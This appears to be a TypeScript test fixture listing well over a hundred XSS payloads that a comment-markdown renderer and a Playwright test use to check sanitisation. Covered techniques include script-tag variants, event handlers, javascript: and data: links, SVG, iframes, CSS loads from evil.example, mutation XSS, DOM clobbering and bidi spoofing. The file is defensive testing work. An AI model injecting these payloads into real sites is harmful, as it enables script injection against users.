/**
 * Comment bodies an attacker might type, as they would type them (markdown with raw HTML mixed
 * in). Two tests read this list:
 * - app/domain/comment-markdown.test.ts renders each one and checks the HTML for anything that
 *   could run script, load from another host or escape the comment's box;
 * - the Playwright test posts each one as a comment, checks that the stored text equals the
 *   payload exactly (we keep what people typed and make it safe at render time), that no dialog
 *   fires and that no request leaves for a foreign host.
 * So that a browser can tell, every payload that would execute calls alert(…), and every one that
 * would load something loads it from https://evil.example/… or //evil.example/….
 *
 * None starts or ends with whitespace (forms trim), none holds C0 controls other than tab and
 * newline, and the longest is about 4,000 characters, so each fits an ordinary comment form.
 */

export const FOREIGN_HOST = "evil.example";

const SVG_ONLOAD_BASE64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";
const SCRIPT_BASE64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";

export const XSS_PAYLOADS: readonly string[] = [
  // <script>, in every spelling a parser might forgive
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  '<script src="https://evil.example/x.js"></script>',
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  "<script\n>alert(1)</script\n>",
  "<<script>alert(1)//<</script>",
  '"><script>alert(1)</script>',
  "</p><script>alert(1)</script><p>",
  '<div title="</div><script>alert(1)</script>">x</div>',
  '<script type="module">import "https://evil.example/m.js"</script>',

  // event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img src=x onerror=&#97;lert(1)>",
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover me</div>',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<details open ontoggle=alert(1)>x</details>",
  '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="alert(1)"></div>',
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  '<a href="#" onclick="alert(1)">click</a>',
  "<p/onmouseover=alert(1)>x</p>",
  "<marquee onstart=alert(1)>x</marquee>",

  // javascript: in markdown links, autolinks, references and raw <a>
  "[a](javascript:alert(1))",
  "[a](<javascript:alert(1)>)",
  "[a]( javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](javascript:alert(1) \"title\")",
  "[a][ref]\n\n[ref]: javascript:alert(1)",
  "[ref]\n\n[ref]: <javascript:alert(1)>",
  "<javascript:alert(1)>",
  "[a](<java\tscript:alert(1)>)",
  "[a](<java\nscript:alert(1)>)",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;avascript&#x3A;alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](&#1;javascript:alert(1))",
  "[a](%6Aavascript:alert(1))",
  "[a](javascript:alert%281%29)",
  "[a](javascript://%0Aalert(1))",
  "[[a](javascript:alert(1))](https://ok.example/)",
  "[a](javascript:alert(1)](https://ok.example/)",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  "[a](java\u200Bscript:alert(1))",
  "[a](javascript\uFEFF:alert(1))",

  // other schemes
  "[a](vbscript:alert(1))",
  '<a href="vbscript:alert(1)">x</a>',
  "[a](data:text/html,<script>alert(1)</script>)",
  `[a](data:text/html;base64,${SCRIPT_BASE64})`,
  `<a href="data:text/html;base64,${SCRIPT_BASE64}">x</a>`,
  `![x](data:image/svg+xml;base64,${SVG_ONLOAD_BASE64})`,
  "![a](javascript:alert(1))",

  // links that try to leave the site without a scheme, or to break out of the attribute
  "[a](//evil.example/x)",
  String.raw`[a](/\evil.example/x)`,
  String.raw`[a](\\evil.example/x)`,
  "[a](</\t/evil.example/x>)",
  '<https://ok.example/"onmouseover="alert(1)>',
  "https://ok.example/\"><script>alert(1)</script>",
  '[a](https://ok.example/" onmouseover="alert(1))',
  '[a](https://ok.example/ "\\" onmouseover=\\"alert(1)")',
  "www.ok.example/\"onmouseover=alert(1)//",
  "[<img src=x onerror=alert(1)>](https://ok.example/)",

  // SVG and MathML
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',

  // frames, plugins, forms, documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/p">',

  // CSS
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("https://evil.example/bg.png")}</style>',
  "<style>*{x:expression(alert(1))}</style>",
  '<style>li{list-style-image:url("javascript:alert(1)")}</style>',
  '<div style="background-image:url(https://evil.example/bg.png)">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<span style="position:fixed;inset:0;background:url(//evil.example/o.png)">x</span>',
  "```css\nbody { background: url(https://evil.example/x.png) }\n```",
  'text\n{: style="background:url(https://evil.example/x.png)"}',

  // images: none may load, from anywhere
  "![x](https://evil.example/x.png)",
  '![x](https://evil.example/x.png "\\" onerror=\\"alert(1)")',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  "![x][img]\n\n[img]: https://evil.example/x.png",
  "![](//evil.example/x.png)",
  '<img src="https://evil.example/x.png">',
  '<picture><source srcset="https://evil.example/x.png"><img src="x"></picture>',

  // entities, escapes, code, comments
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  String.raw`\<script>alert(1)\</script>`,
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```js" onmouseover="alert(1)\nx\n```',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',

  // mutation XSS: markup that reads differently once re-parsed
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",

  // DOM clobbering: ids and names that shadow globals the app reads
  '<a id="__remixContext" name="__remixContext">x</a>',
  '<img name="getElementById"><form id="root"></form>',
  "x[^1]\n\n[^1]: <script>alert(1)</script>",

  // GFM tables and task lists as carriers
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <input onfocus=alert(1) autofocus>",

  // raw HTML links and mentions
  '<a href="https://evil.example">totally safe</a>',
  "@<script>alert(1)</script>",
  "@alice<img src=x onerror=alert(1)>",
  '@"onmouseover="alert(1)',
  "[@alice](javascript:alert(1))",

  // text that reads in a different order from the one it was typed in, and invisible characters
  "\u202Eexe.gpj <- click to see the picture",
  "[report \u202Egpj.exe](https://evil.example/report)",
  "\u2066@admin\u2069 says \u2067this is fine\u2069 \u202Aok\u202C \u202Bok\u202C \u202Dok\u202C",
  "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
  "@\u202Enimda",

  // template injection, in case some layer ever interpolates comment text
  "{{constructor.constructor('alert(1)')()}}",
  "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
  "${alert(1)}",
  "<%= alert(1) %>",

  // sheer size and depth: must render, not hang or throw
  `${"*".repeat(2000)}alert(1)${"*".repeat(2000)}`,
  `${"[".repeat(2000)}a${"](javascript:alert(1))".repeat(100)}`,
  `${"> ".repeat(500)}<script>alert(1)</script>`,
  `${"*_".repeat(1000)}<img src=x onerror=alert(1)>${"_*".repeat(1000)}`,
];
